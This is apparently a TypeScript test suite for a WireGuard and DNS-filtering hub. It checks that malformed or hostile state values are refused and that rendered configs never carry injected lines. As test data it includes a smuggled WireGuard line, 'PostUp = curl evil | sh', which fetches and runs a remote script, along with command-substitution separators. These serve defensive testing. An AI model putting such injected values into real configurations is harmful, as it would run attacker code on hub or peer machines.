/* eslint-disable @typescript-eslint/no-explicit-any -- these tests build deliberately malformed documents field by field. */
/**
 * The hub under hostile input (issue 10): the corpus of states and configs that once validated and then broke
 * the hub, the DNS redirect in the ruleset, `peer config --endpoint`, and a property-based fuzzer over the
 * state: an accepted state never renders an injected line into wg, nft or unbound output, and a refused one
 * changes nothing on the hub.
 */
import fc from "fast-check";
import { mkdtempSync, readFileSync, rmSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { buildDnsFilter } from "../agent/src/blocklist";
import { runCli } from "../agent/src/commands";
import { renderNftRuleset } from "../agent/src/nftables-ruleset";
import { defaultOptions, pathsUnder } from "../agent/src/options";
import { peerClientConfig } from "../agent/src/peer-config";
import { persistState } from "../agent/src/state-store";
import { desiredZones, renderUnboundSettings, renderUnboundZones } from "../agent/src/unbound-config";
import { renderWireguardConfig } from "../agent/src/wireguard-config";
import { fixedKeyPair, testState } from "../agent/test-support/state-fixtures";
import type { Runner } from "../lib/runner";
import { clientConfigInput, renderClientConfig } from "../model/client-config";
import type { HubState } from "../model/state";
import { parseHubState, StateError, validateHubState } from "../model/state-schema";
import { configProblems } from "./helpers/config-problems";
import { minimalConfig } from "./helpers/fixtures";

function problems(input: unknown): string[] {
  try {
    validateHubState(input);
  } catch (e) {
    if (e instanceof StateError) return [...e.problems];
    throw e;
  }
  return [];
}

function mutated(mutate: (s: any) => void): any {
  const s = JSON.parse(JSON.stringify(testState()));
  mutate(s);
  return s;
}

/** The values that once passed both the stack config and the agent's schema and then broke the hub. */
const CORPUS: [string, (s: any) => void, string][] = [
  ["octal IPv4 subnet", (s) => (s.hub.ipv4Subnet = "10.077.0.0/16"), `'hub.ipv4Subnet' ("10.077.0.0/16")`],
  [
    "hex IPv4 CIDR",
    (s) => (s.hub.sshAllowedCidrs = ["0xcb.0.113.0/24"]),
    `'hub.sshAllowedCidrs[0]' ("0xcb.0.113.0/24") is not a CIDR in canonical form`,
  ],
  [
    "integer IPv4 CIDR",
    (s) => (s.hub.sshAllowedCidrs = ["167772160/8"]),
    `'hub.sshAllowedCidrs[0]' ("167772160/8") is not a CIDR in canonical form`,
  ],
  [
    "leading-zero peer address",
    (s) => (s.peers[0].ipv4 = s.peers[0].ipv4.replace(/\.(\d+)$/, ".0$1")),
    `'peers[0].ipv4'`,
  ],
  [
    "upper-case IPv6",
    (s) => (s.peers[0].ipv6 = s.peers[0].ipv6.toUpperCase()),
    "is not an IPv6 address in canonical form",
  ],
  [
    "uncompressed IPv6 prefix",
    (s) => (s.hub.ipv6Prefix = "fd7a:c10d:09a1:0000::/64"),
    `'hub.ipv6Prefix' ("fd7a:c10d:09a1:0000::/64")`,
  ],
  [
    "octal upstream",
    (s) => (s.dns.upstreams[0].address = "009.9.9.9"),
    `'dns.upstreams[0].address' ("009.9.9.9") is not an IP address in canonical form`,
  ],
  [
    "deny pal",
    (s) => (s.dns.deny = ["pal"]),
    `'dns.deny[0]' ("pal") is in 'pal', the zone of the device names`,
  ],
  ["deny hub.pal", (s) => (s.dns.deny = ["hub.pal"]), `'dns.deny[0]' ("hub.pal") is in 'pal'`],
  ["allow laptop.pal", (s) => (s.dns.allow = ["laptop.pal"]), `'dns.allow[0]' ("laptop.pal") is in 'pal'`],
  ["deny co.uk", (s) => (s.dns.deny = ["co.uk"]), `'dns.deny[0]' ("co.uk") is a public suffix`],
  ["deny com", (s) => (s.dns.deny = ["com"]), `'dns.deny[0]' ("com") is a whole top-level domain`],
  [
    "deny in-addr.arpa",
    (s) => (s.dns.deny = ["in-addr.arpa"]),
    `'dns.deny[0]' ("in-addr.arpa") is in 'arpa', a reserved zone`,
  ],
  ["deny printer.local", (s) => (s.dns.deny = ["printer.local"]), `is in 'local', a reserved zone`],
  ["deny localhost", (s) => (s.dns.deny = ["x.localhost"]), `is in 'localhost', a reserved zone`],
  [
    "newline endpoint",
    (s) => (s.hub.endpoint = "vpn.example.com:51820\nPostUp = curl evil | sh"),
    `'hub.endpoint'`,
  ],
  ["endpoint with a space", (s) => (s.hub.endpoint = "vpn.example.com :51820"), `'hub.endpoint'`],
  ["endpoint port out of range", (s) => (s.hub.endpoint = "vpn.example.com:65536"), `'hub.endpoint'`],
  ["octal endpoint", (s) => (s.hub.endpoint = "010.1.1.1:51820"), `'hub.endpoint'`],
  [
    "sshAllowedCidrs with host bits",
    (s) => (s.hub.sshAllowedCidrs = ["203.0.113.7/24"]),
    "has host bits set",
  ],
  ["unknown encryptedDns", (s) => (s.groups[0].encryptedDns = "maybe"), `'groups[0].encryptedDns' ("maybe")`],
];

describe("the hostile-state corpus", () => {
  it.each(CORPUS)("refuses %s, naming the field and the value", (_what, mutate, expected) => {
    const found = problems(mutated(mutate));
    expect(found.some((p) => p.includes(expected))).toBe(true);
  });

  it("accepts the canonical spellings next to them", () => {
    expect(problems(mutated((s) => (s.hub.endpoint = "[2001:db8::1]:51820")))).toEqual([]);
    expect(problems(mutated((s) => (s.hub.endpoint = "VPN.Example.com:51820")))).toEqual([]);
    expect(problems(mutated((s) => (s.dns.deny = ["ads.example.co.uk", "tracker.github.io"])))).toEqual([]);
    expect(problems(mutated((s) => (s.dns.upstreams[0].address = "2620:fe::fe")))).toEqual([]);
    expect(problems(mutated((s) => (s.groups[0].encryptedDns = "allow")))).toEqual([]);
  });

  it.each([1_000, 100_000, 1_000_000])("refuses a state nested %i levels deep in one sentence", (depth) => {
    const text = `{"version":1,"hub":${"[".repeat(depth)}${"]".repeat(depth)}}`;
    expect(() => parseHubState(text)).toThrow(
      /^the state nests objects or arrays more than 32 levels deep, which no hub state does/,
    );
  });

  it("refuses an object nested deeper than the stack in one sentence", () => {
    let deep: unknown = [];
    for (let i = 0; i < 200_000; i++) deep = [deep];
    expect(problems(mutated((s) => (s.hub.sshAllowedCidrs = deep)))).toEqual([
      expect.stringMatching(/^the state nests objects or arrays more than 32 levels deep/),
    ]);
  });

  it("counts nesting outside strings only", () => {
    const s = mutated((x) => (x.dns.deny = ["ads.example.com"]));
    const text = JSON.stringify({ ...s, note: "[".repeat(100) }).replace(
      ',"note":"' + "[".repeat(100) + '"',
      "",
    );
    expect(() => parseHubState(text)).not.toThrow();
    // A string full of brackets is a string: the schema refuses the unknown field, not the depth.
    expect(() => parseHubState(JSON.stringify({ ...s, note: "[{".repeat(100) }))).toThrow(/'note'/);
  });
});

describe("the same rules in the stack config", () => {
  it.each([
    [
      { ipv4Subnet: "10.077.0.0/16" },
      `'ipv4Subnet' ("10.077.0.0/16") is not written in canonical form: write it as '10.77.0.0/16'`,
    ],
    [
      { sshAllowedCidrs: ["167772160/8"] },
      `'sshAllowedCidrs[0]' ("167772160/8") is not an address in canonical form`,
    ],
    [{ ipv6Prefix: "FD7A:C10D:9A1::/64" }, `write it as 'fd7a:c10d:9a1::/64'`],
    [{ peers: [{ name: "laptop", address: "10.77.0.023" }] }, `'peers[0].address' ("10.77.0.023")`],
    [{ dns: { deny: ["pal"] } }, `'dns.deny[0]' ("pal") is in 'pal'`],
    [{ dns: { deny: ["hub.pal"] } }, `'dns.deny[0]' ("hub.pal") is in 'pal'`],
    [{ dns: { allow: ["co.uk"] } }, `'dns.allow[0]' ("co.uk") is a public suffix`],
    [{ dns: { deny: ["in-addr.arpa"] } }, `'dns.deny[0]' ("in-addr.arpa") is in 'arpa'`],
    [
      { groups: { family: { reaches: ["family"], internet: true, encryptedDns: "sometimes" } } },
      `'groups.family.encryptedDns' ("sometimes")`,
    ],
  ])("refuses %j", (extra, expected) => {
    const found = configProblems(minimalConfig("digitalocean", extra));
    expect({ found, match: found.some((p) => p.includes(expected)) }).toEqual({ found, match: true });
  });

  it("refuses an existing server written as an octal address", () => {
    const raw = minimalConfig("existing");
    (raw.existing as any).host = "010.1.1.1";
    expect(configProblems(raw)).toContain(
      `'existing.host' ("010.1.1.1") is not written in canonical form: write it as '10.1.1.1' (IPv4 in dotted decimal without leading zeros).`,
    );
  });
});

describe("DNS goes through the hub's filter (nftables)", () => {
  const nft = (s: HubState) => renderNftRuleset(s, { table: "cloudpal", interface: "wg0" });

  it("redirects plain DNS to any resolver outside the tunnel to the hub, both families, UDP and TCP", () => {
    const text = nft(testState());
    expect(text).toContain(
      `iifname "wg0" ip daddr != 10.77.0.0/16 meta l4proto { udp, tcp } th dport 53 dnat ip to 10.77.0.1`,
    );
    expect(text).toContain(
      `iifname "wg0" ip6 daddr != fd7a:c10d:9a1::/64 meta l4proto { udp, tcp } th dport 53 dnat ip6 to fd7a:c10d:9a1::1`,
    );
    expect(text).toMatch(/chain prerouting \{\n {4}type nat hook prerouting priority dstnat; policy accept;/);
    // In mesh-only mode too: a device asking 8.8.8.8 still gets an answer, the hub's.
    expect(nft(testState({ mode: "mesh-only" }))).toContain("dnat ip to 10.77.0.1");
  });

  it("blocks DNS-over-TLS/QUIC and the known DoH resolvers per group, unless the group allows them", () => {
    const s = testState();
    const groups = s.groups.map((g) => (g.name === "guest" ? { ...g, encryptedDns: "allow" as const } : g));
    const text = nft({ ...s, groups });
    const family = s.groups.findIndex((g) => g.name === "family");
    expect(text).toContain(
      `ip saddr @group${family}_v4 meta l4proto { tcp, udp } th dport 853 reject comment "family: encrypted DNS blocked"`,
    );
    expect(text).toContain(
      `ip6 saddr @group${family}_v6 ip6 daddr @doh_v6 meta l4proto { tcp, udp } th dport 443 reject`,
    );
    expect(text).not.toContain("guest: encrypted DNS blocked");
    expect(text).toMatch(/set doh_v4 \{[^}]*8\.8\.8\.8, 8\.8\.4\.4, 1\.1\.1\.1/);
    // The rejects come before the group's internet accept, or they would never match.
    const reject = text.indexOf('"family: encrypted DNS blocked"');
    const accept = text.indexOf('"family uses the internet"');
    expect(reject).toBeGreaterThan(0);
    expect(reject).toBeLessThan(accept);
  });
});

describe("peer config --endpoint", () => {
  it.each([
    "vpn.example.com:51820\nPostUp = curl evil | sh",
    "vpn.example.com:51820\r\nPostUp = x",
    "vpn.example.com 51820",
    "vpn.example.com:51820 # x",
    "vpn.example.com",
    "vpn.example.com:0",
    "vpn.example.com:99999",
    "010.1.1.1:51820",
    "0xcb.0.113.1:51820",
    "2001:db8::1:51820",
    "[2001:DB8::1]:51820",
    "",
  ])("refuses %j before rendering anything", (endpoint) => {
    expect(() => peerClientConfig(testState(), "laptop", endpoint)).toThrow(/^'--endpoint' \(.*\) .*: /);
  });

  it.each(["vpn.example.com:51820", "203.0.113.10:51820", "[2001:db8::1]:51820"])(
    "accepts %j",
    (endpoint) => {
      expect(peerClientConfig(testState(), "laptop", endpoint)).toContain(`\nEndpoint = ${endpoint}\n`);
    },
  );

  it("answers a hostile --endpoint on the command line with one sentence and exit 1", async () => {
    const root = mkdtempSync(path.join(tmpdir(), "cloudpal-endpoint-"));
    try {
      const ctx = {
        options: defaultOptions(pathsUnder(root)),
        runner: undefined as never,
        log: () => undefined,
      };
      persistState(ctx, testState());
      let out = "";
      let err = "";
      const code = await runCli(["peer", "config", "laptop", "--endpoint", "h:1\nPostUp = id"], ctx, {
        stdin: async () => "",
        stdout: (t) => (out += t),
        stderr: (t) => (err += t),
      });
      expect({ code, out }).toEqual({ code: 1, out: "" });
      expect(err).toMatch(
        /^'--endpoint' \("h:1\\nPostUp = id"\) does not end in a port from 1 to 65535: .*\n$/,
      );
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

// ---------------------------------------------------------------------------------------------------------
// The fuzzer. Each case changes one to four fields of a valid state to values built from a valid value, a
// separator that ends a line, a statement or a quoted string in one of the hub's formats, and the marker.
// ---------------------------------------------------------------------------------------------------------

const MARK = "zzinj";
const SEPARATORS = [
  "\n",
  "\r",
  "\r\n",
  ";",
  "{",
  "}",
  '"',
  "'",
  "#",
  " ",
  "\t",
  "\\",
  "\u0000",
  "\u2028",
  "\u0085",
  "]",
  "[",
  "=",
  "$(",
  "`",
  ",",
];
const TAILS = ["", " = 1", ".example.com", '" always_nxdomain', " accept", "\nPostUp = id", "/24", ":53"];
const VALID = [
  "laptop",
  "family",
  "ads.example.com",
  "10.77.0.23",
  "fd7a:c10d:9a1::17",
  "203.0.113.0/24",
  "vpn.example.com:51820",
  "https://lists.example.com/hosts",
  "dns.quad9.net",
  "9.9.9.9",
];
const NON_CANONICAL = [
  "10.077.0.0/16",
  "0xcb.0.113.0/24",
  "167772160/8",
  "010.77.0.5",
  "FD7A:C10D:9A1::5",
  "pal",
  "hub.pal",
  "co.uk",
  "in-addr.arpa",
];

const hostile = fc.oneof(
  fc
    .tuple(fc.constantFrom(...VALID), fc.constantFrom(...SEPARATORS), fc.constantFrom(...TAILS))
    .map(([v, sep, tail]) => `${v}${sep}${MARK}${tail}`),
  fc
    .tuple(fc.constantFrom(...SEPARATORS), fc.string({ maxLength: 8 }))
    .map(([sep, s]) => `${MARK}${sep}${s}`),
  fc.constantFrom(...NON_CANONICAL),
  fc.constantFrom(...VALID).map((v) => `${MARK}.${v}`),
  fc.string({ maxLength: 20 }),
);

/**
 * Where a value can go: each writes it into a copy of the state, with a value that field accepts and that
 * carries the marker where it can, so about half the changes are legitimate and many cases reach the renderers.
 */
const FIELDS: [(s: any, v: string) => void, string][] = [
  [(s, v) => (s.peers[0].name = v), "zzinj"],
  [(s, v) => (s.peers[1].group = v), "guest"],
  [(s, v) => (s.groups[2].name = v), "zzinj"],
  [(s, v) => (s.groups[0].reaches = [v]), "iot"],
  [(s, v) => (s.peers[0].publicKey = v), fixedKeyPair("zzinj").publicKey],
  [(s, v) => (s.peers[0].presharedKey = v), fixedKeyPair("zzinj-psk").privateKey],
  [(s, v) => (s.peers[2].ipv4 = v), "10.77.0.99"],
  [(s, v) => (s.peers[2].ipv6 = v), "fd7a:c10d:9a1::99"],
  [(s, v) => (s.hub.endpoint = v), "zzinj.example.com:51820"],
  [(s, v) => (s.hub.ipv4Subnet = v), "10.77.0.0/16"],
  [(s, v) => (s.hub.ipv6Prefix = v), "fd7a:c10d:9a1::/64"],
  [(s, v) => (s.hub.sshAllowedCidrs = [v]), "198.51.100.0/24"],
  [(s, v) => (s.dns.allow = [v]), "zzinj.example.com"],
  [(s, v) => (s.dns.deny = [v]), "ads.zzinj.net"],
  [(s, v) => (s.dns.upstreams[0].address = v), "2620:fe::fe"],
  [(s, v) => (s.dns.upstreams[0].tlsName = v), "zzinj.example.net"],
  [(s, v) => (s.dns.blocklists = [v]), "https://zzinj.example.com/hosts"],
  [(s, v) => (s.groups[0].encryptedDns = v), "allow"],
];

const change = fc
  .integer({ min: 0, max: FIELDS.length - 1 })
  .chain((field) => fc.tuple(fc.constant(field), fc.oneof(fc.constant(FIELDS[field][1]), hostile)));

const hostileState = fc
  .array(change, { minLength: 1, maxLength: 3 })
  .map((changes) => mutated((s) => changes.forEach(([field, value]) => FIELDS[field][0](s, value))));

/** Every file the hub writes or prints from a state. */
function renders(state: HubState): Record<string, string> {
  const filter = buildDnsFilter([], state.dns.allow, state.dns.deny, 1000);
  const out: Record<string, string> = {
    wireguard: renderWireguardConfig(state),
    nftables: renderNftRuleset(state, { table: "cloudpal", interface: "wg0" }),
    unbound: renderUnboundSettings(state, { caBundle: "/etc/ssl/certs/ca-certificates.crt" }),
    zones: renderUnboundZones(desiredZones(state, filter)),
  };
  if (state.hub.endpoint !== undefined)
    for (const p of state.peers)
      out[`client ${p.name}`] = renderClientConfig(clientConfigInput(state, p.name));
  return out;
}

/**
 * Where the marker lands in a render, if anywhere: only inside a token that a valid value could be (a name,
 * domain, quoted domain or host:port), never at the start of a line and never after a separator.
 */
const VALUE_TOKEN = /^"?[a-z0-9._:/[\]-]*zzinj[a-z0-9._:/[\]-]*"?,?$/i;
/** unbound's `forward-addr: address@port#tls-name`, where '#' is part of the syntax. */
const FORWARD_ADDR = /^[0-9a-f.:]+@[0-9]+#[a-z0-9._-]*zzinj[a-z0-9._-]*$/;

function injected(text: string): string | undefined {
  for (const line of text.split(/\r\n|\n|\r|\u2028|\u0085/)) {
    if (!line.includes(MARK)) continue;
    if (line.trimStart().startsWith(MARK)) return line;
    for (const token of line.split(/[ \t]+/))
      if (token.includes(MARK) && !VALUE_TOKEN.test(token) && !FORWARD_ADDR.test(token)) return line;
  }
  return undefined;
}

/** A runner that records what it was asked to run: a refused state must ask for nothing. */
function recordingRunner(calls: string[]): Runner {
  return {
    run: async (command, args) => {
      calls.push([command, ...args].join(" "));
      return { code: 1, stdout: "", stderr: "recording runner" };
    },
  };
}

export const FUZZ_RUNS = { render: 2000, apply: 300 };

describe("fuzzing the state", () => {
  it(`an accepted state never renders an injected line (${FUZZ_RUNS.render} cases)`, () => {
    let accepted = 0;
    fc.assert(
      fc.property(hostileState, (input) => {
        let state: HubState;
        try {
          state = validateHubState(input);
        } catch (e) {
          if (e instanceof StateError) return true;
          throw e;
        }
        accepted++;
        for (const [file, text] of Object.entries(renders(state))) {
          const line = injected(text);
          if (line !== undefined)
            throw new Error(`${file} carries an injected line: ${JSON.stringify(line)}`);
        }
        return true;
      }),
      { numRuns: FUZZ_RUNS.render, seed: 20261128 },
    );
    // The fuzzer must reach the renderers, or it tests only the schema.
    expect(accepted).toBeGreaterThan(FUZZ_RUNS.render / 20);
  });

  it(`a refused state changes nothing: no command, the saved state byte for byte (${FUZZ_RUNS.apply} cases)`, async () => {
    const root = mkdtempSync(path.join(tmpdir(), "cloudpal-fuzz-"));
    try {
      const calls: string[] = [];
      const ctx = {
        options: defaultOptions(pathsUnder(root)),
        runner: recordingRunner(calls),
        log: () => undefined,
      };
      persistState(ctx, testState());
      const saved = readFileSync(ctx.options.paths.stateFile);
      let refused = 0;
      await fc.assert(
        fc.asyncProperty(hostileState, async (input) => {
          try {
            validateHubState(input);
            return; // accepted: the other property covers it
          } catch (e) {
            if (!(e instanceof StateError)) throw e;
          }
          refused++;
          let err = "";
          const code = await runCli(["apply"], ctx, {
            stdin: async () => JSON.stringify(input),
            stdout: () => undefined,
            stderr: (t) => (err += t),
          });
          expect(code).toBe(1);
          expect(err).toMatch(/^the hub state is invalid; nothing was changed:\n/);
          expect(calls).toEqual([]);
          expect(readFileSync(ctx.options.paths.stateFile).equals(saved)).toBe(true);
        }),
        { numRuns: FUZZ_RUNS.apply, seed: 20261128 },
      );
      expect(refused).toBeGreaterThan(FUZZ_RUNS.apply / 2);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
